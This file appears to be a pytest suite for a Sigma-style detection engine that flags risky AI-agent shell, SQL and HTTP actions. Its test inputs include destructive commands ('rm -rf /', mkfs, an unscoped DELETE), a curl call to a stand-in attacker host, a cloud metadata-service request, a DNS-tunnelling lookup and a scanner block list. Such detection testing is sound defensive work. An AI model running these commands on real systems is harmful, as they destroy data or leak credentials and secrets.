"""Rule engine semantics: Sigma modifiers, views, lists, exceptions, errors with file:line, reload."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest

from detectors.base import Detector, Severity
from detectors.rulebook import RuleDetector, RuleLoadError, load_rules, make_event
from pipeline.settings import RulesSettings


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


RULE = """
title: Test rule
id: 11111111-2222-3333-4444-555555555555
name: custom.{stem}
status: test
level: high
description: A rule used by the engine tests; it is only here to exercise the engine.
tags: [attack.impact, attack.t1485]
logsource: {{product: ai_agent{category}}}
detection:
{detection}
risk_score: 55
"""


def rule_file(
    tmp: Path, stem: str, detection: str, category: str = ", category: shell", extra: str = ""
) -> Path:
    det = textwrap.indent(textwrap.dedent(detection).strip(), "  ")
    return write(
        tmp / "custom" / f"{stem}.yml",
        RULE.format(stem=stem, category=category, detection=det) + extra,
    )


def only(tmp: Path, **kw) -> RuleDetector:  # type: ignore[no-untyped-def]
    return RuleDetector(RulesSettings(builtin=False, directories=[tmp], **kw))


def fires(det: RuleDetector, case, category: str | None = "shell") -> list[str]:  # type: ignore[no-untyped-def]
    return [f.id for f in det.score_one(make_event(case, category))]


def test_is_a_detector(tmp_path: Path) -> None:
    rule_file(tmp_path, "x", "sel:\n  shell.program: rm\ncondition: sel")
    det = only(tmp_path)
    assert isinstance(det, Detector) and det.name == "rules" and det.rule_count == 1
    assert det.learn_one(make_event("rm x")) is None


def test_modifiers(tmp_path: Path) -> None:
    rule_file(
        tmp_path,
        "mods",
        r"""
        contains: {shell.argline|contains: secret}
        starts: {shell.program|startswith: mkfs}
        ends: {shell.args|endswith: .pem}
        regex: {shell.args|re: '^\d{3}$'}
        all: {shell.args|contains|all: [alpha, beta]}
        wildcard: {shell.program: 'py*n?'}
        condition: 1 of them
        """,
    )
    det = only(tmp_path)
    assert fires(det, "grep SECRET file") == ["custom.mods"]  # case-insensitive by default
    assert fires(det, "mkfs.ext4 /dev/x") == ["custom.mods"]
    assert fires(det, "cat key.PEM") == ["custom.mods"]
    assert fires(det, "chmod 755 x") == ["custom.mods"]
    assert fires(det, "echo alpha-beta") == ["custom.mods"]
    assert fires(det, "echo alpha") == []
    assert fires(det, "python3 x.py") == ["custom.mods"]
    assert fires(det, "ls -la") == []


def test_view_fields_describe_one_command(tmp_path: Path) -> None:
    rule_file(tmp_path, "same", "sel:\n  shell.program: rm\n  shell.args: /\ncondition: sel")
    det = only(tmp_path)
    assert fires(det, "rm -rf /") == ["custom.same"]
    assert fires(det, "rm -rf x; ls /") == []  # rm and / in different commands


def test_numeric_cidr_null_exists_and_keywords(tmp_path: Path) -> None:
    rule_file(
        tmp_path,
        "num",
        """
        sel: {action.rows|gte: 1000, source_ip|cidr: 10.0.0.0/8, approver: null, tenant|exists: true}
        condition: sel
        """,
        category=", category: sql",
    )
    rule_file(tmp_path, "kw", "keywords:\n  - 'evil.example'\ncondition: keywords", category="")
    det = only(tmp_path)
    base = {
        "action.kind": "sql",
        "action.command": "SELECT 1",
        "action.rows": 5000,
        "source_ip": "10.1.2.3",
        "tenant": "t1",
    }
    assert fires(det, base, "sql") == ["custom.num"]
    assert fires(det, {**base, "action.rows": 999}, "sql") == []
    assert fires(det, {**base, "source_ip": "192.168.1.1"}, "sql") == []
    assert fires(det, {**base, "approver": "bob"}, "sql") == []
    assert fires(det, {k: v for k, v in base.items() if k != "tenant"}, "sql") == []
    assert fires(det, "curl https://evil.example/x") == ["custom.kw"]


def test_lists_from_files_and_settings(tmp_path: Path) -> None:
    rule_file(tmp_path, "lst", "sel:\n  shell.program|expand: '%bad_tools%'\ncondition: sel")
    write(tmp_path / "lists.yml", "lists:\n  bad_tools: [nmap]\n")
    write(tmp_path / "more.yml", "lists:\n  bad_tools: [masscan]\n")  # appends
    det = only(tmp_path)
    assert fires(det, "nmap x") == ["custom.lst"] and fires(det, "masscan x") == ["custom.lst"]
    assert fires(det, "ls") == []


def test_exceptions_in_rule_and_operator_extension(tmp_path: Path) -> None:
    extra = """
exceptions:
  - name: build_hosts
    fields: [shell.program, agent_role]
    comps: [equals, in]
    values: [[rm, [builder]]]
"""
    rule_file(tmp_path, "exc", "sel:\n  shell.program: rm\ncondition: sel", extra=extra)
    det = only(tmp_path)
    assert fires(det, {"action.command": "rm x", "agent_role": "builder"}) == []
    assert fires(det, {"action.command": "rm x", "agent_role": "ops"}) == ["custom.exc"]
    ops = tmp_path / "ops"
    write(
        ops / "tuning.yml",
        "exceptions:\n  - {rule: custom.exc, name: build_hosts, values: [[rm, [ops]]]}\n",
    )
    det = RuleDetector(RulesSettings(builtin=False, directories=[tmp_path]))
    assert fires(det, {"action.command": "rm x", "agent_role": "ops"}) == []
    write(
        ops / "tuning.yml",
        "exceptions:\n  - {rule: custom.exc, name: new_one, fields: [owner], comps: [endswith], values: ['@example.com']}\n",
    )
    det = RuleDetector(RulesSettings(builtin=False, directories=[tmp_path]))
    assert (
        fires(det, {"action.command": "rm x", "agent_role": "ops"}) == []
    )  # default owner is owner@example.com


def test_disabled_rules_setting(tmp_path: Path) -> None:
    rule_file(tmp_path, "off", "sel:\n  shell.program: rm\ncondition: sel")
    assert only(tmp_path, disabled_rules=["custom.off"]).rule_count == 0


def test_finding_fields(tmp_path: Path) -> None:
    rule_file(tmp_path, "f", "sel:\n  shell.program: rm\n  shell.args: /\ncondition: sel")
    rule_file(
        tmp_path,
        "g",
        "sel:\n  action.target|contains: 169.254.169.254\ncondition: sel",
        category="",
    )
    det = only(tmp_path)
    line = "ls && sudo rm -rf /"
    (f,) = det.score_one(make_event(line))
    assert (f.detector, f.id, f.severity, f.score) == ("rules", "custom.f", Severity.HIGH, 55.0)
    assert (f.technique, f.tactic, f.field) == ("T1485", "TA0040", "action.command")
    assert f.span is not None and line[f.span[0] : f.span[1]] == "sudo rm -rf /"
    assert f.reason == "Test rule: rm -rf /" and "\n" not in f.reason
    target = "http://169.254.169.254/latest/meta-data/"
    (g,) = det.score_one(make_event({"action.kind": "http", "action.target": target}, "http"))
    assert g.field == "action.target" and g.span is not None
    assert target[g.span[0] : g.span[1]] == "169.254.169.254"


def test_plain_sigma_rules_load_and_other_products_are_skipped(tmp_path: Path) -> None:
    write(
        tmp_path / "sigma" / "plain.yml",
        """
        title: Plain Sigma rule without agentwatch metadata
        id: 9d7a1c1e-0b0b-4c4c-8d8d-123456789abc
        status: experimental
        logsource: {product: ai_agent, category: shell}
        detection:
          selection: {shell.program: nmap}
          condition: selection
        level: medium
        """,
    )
    write(
        tmp_path / "sigma" / "windows.yml",
        """
        title: Windows rule
        id: 9d7a1c1e-0b0b-4c4c-8d8d-123456789abd
        logsource: {product: windows, category: process_creation}
        detection:
          selection: {Image|endswith: '\\\\cmd.exe'}
          condition: selection
        level: low
        """,
    )
    rs = load_rules(RulesSettings(builtin=False), [tmp_path])
    assert [r.id for r in rs.rules] == ["9d7a1c1e-0b0b-4c4c-8d8d-123456789abc"]
    assert rs.rules[0].risk_score == 40  # the level's default
    assert any("skipped" in str(w) for w in rs.warnings)


def _error_lines(tmp_path: Path) -> list[str]:
    with pytest.raises(RuleLoadError) as info:
        load_rules(RulesSettings(builtin=False), [tmp_path])
    return info.value.lines()


def test_unknown_field_reported_with_file_and_line(tmp_path: Path) -> None:
    path = rule_file(tmp_path, "bad", "sel:\n  shell.programme: rm\ncondition: sel")
    (line,) = _error_lines(tmp_path)
    assert line.startswith(f"{path}:") and "unknown field 'shell.programme'" in line


@pytest.mark.parametrize(
    ("detection", "needle", "line_of"),
    [
        ("sel:\n  shell.program|nosuch: rm\ncondition: sel", "nosuch", "shell.program|nosuch"),
        ("sel:\n  shell.program: rm\ncondition: sel and missing", "missing", "condition"),
        ("sel:\n  shell.args|re: '(a)\\1'\ncondition: sel", "RE2", "detection"),
    ],
)
def test_invalid_detection_reported(
    tmp_path: Path, detection: str, needle: str, line_of: str
) -> None:
    path = rule_file(tmp_path, "bad", detection)
    lines = _error_lines(tmp_path)
    assert len(lines) == 1 and needle in lines[0]
    text = path.read_text().splitlines()
    lineno = int(lines[0].split(":")[1])
    assert line_of in text[lineno - 1] or line_of == "detection"


def test_yaml_errors_aliases_duplicates(tmp_path: Path) -> None:
    write(tmp_path / "a.yml", "title: x\ndetection: [unclosed\n")
    write(tmp_path / "b.yml", "lists:\n  a: &x [1]\n  b: *x\n")
    rule_file(tmp_path, "dup", "sel:\n  shell.program: rm\ncondition: sel")
    write(tmp_path / "other" / "dup.yml", (tmp_path / "custom" / "dup.yml").read_text())
    lines = _error_lines(tmp_path)
    assert any(
        ln.startswith(str(tmp_path / "a.yml") + ":") and "invalid YAML" in ln for ln in lines
    )
    assert any("aliases are not allowed" in ln for ln in lines)
    assert any("duplicate rule id 'custom.dup'" in ln for ln in lines)


def test_reload_if_changed_keeps_previous_on_error(tmp_path: Path) -> None:
    path = rule_file(tmp_path, "r", "sel:\n  shell.program: rm\ncondition: sel")
    det = only(tmp_path)
    assert det.reload_if_changed() == []
    assert fires(det, "rm x") == ["custom.r"]
    path.write_text(path.read_text().replace("shell.program: rm", "shell.program: [broken"))
    os.utime(path, ns=(1, 1))
    problems = det.reload_if_changed()
    assert problems and problems[0].startswith(str(path))
    assert fires(det, "rm x") == ["custom.r"]  # previous set still active
    assert det.reload_if_changed() == []  # unchanged since: not retried
    path.write_text(path.read_text().replace("shell.program: [broken", "shell.program: shred"))
    os.utime(path, ns=(2, 2))
    assert det.reload_if_changed() == []
    assert fires(det, "rm x") == [] and fires(det, "shred x") == ["custom.r"]
    rule_file(tmp_path, "s", "sel:\n  shell.program: dd\ncondition: sel")  # a new file
    assert det.reload_if_changed() == [] and det.rule_count == 2


def test_constructor_raises_on_broken_files(tmp_path: Path) -> None:
    rule_file(tmp_path, "bad", "sel:\n  nope: 1\ncondition: sel")
    with pytest.raises(RuleLoadError):
        only(tmp_path)


def test_parse_once_per_event(tmp_path: Path) -> None:
    rule_file(tmp_path, "p", "sel:\n  shell.program: rm\ncondition: sel")
    det = only(tmp_path)
    ev = make_event("rm x | tee y")
    det.score_one(ev)
    parsed = ev.derived["shell"]
    det.score_one(ev)
    assert ev.derived["shell"] is parsed


def test_python_predicate_escape_hatch(tmp_path: Path) -> None:
    rule_file(
        tmp_path,
        "pred",
        "sel:\n  shell.program: dig\ncondition: sel",
        extra="predicate: dns_tunnel_label\n",
    )
    rule_file(
        tmp_path,
        "nopred",
        "sel:\n  shell.program: dig\ncondition: sel",
        extra="predicate: no_such_predicate\n",
    )
    lines = _error_lines(tmp_path)
    assert any("unknown predicate 'no_such_predicate'" in ln for ln in lines)
    (tmp_path / "custom" / "nopred.yml").unlink()
    det = only(tmp_path)
    assert fires(det, "dig aGVsbG8td29ybGQtdGhpcy1pcy1zZWNyZXQtZGF0YQ.x.example.com") == [
        "custom.pred"
    ]
    assert fires(det, "dig github.com") == []


def test_sql_views_from_shell_clients(tmp_path: Path) -> None:
    rule_file(
        tmp_path,
        "sq",
        "sel:\n  sql.kind: DELETE\n  sql.has_where: false\ncondition: sel",
        category="",
    )
    det = only(tmp_path)
    assert fires(det, "psql -c 'DELETE FROM t'") == ["custom.sq"]
    assert fires(det, "psql -c 'DELETE FROM t WHERE id = 1; SELECT 1'") == []
    assert fires(
        det, {"action.kind": "sql", "action.command": "select 1; delete from t"}, "sql"
    ) == ["custom.sq"]
    tool = {
        "action.kind": "tool_call",
        "action.tool": "db.query",
        "action.args": {"query": "DELETE FROM t"},
    }
    assert fires(det, tool, "tool_call") == ["custom.sq"]
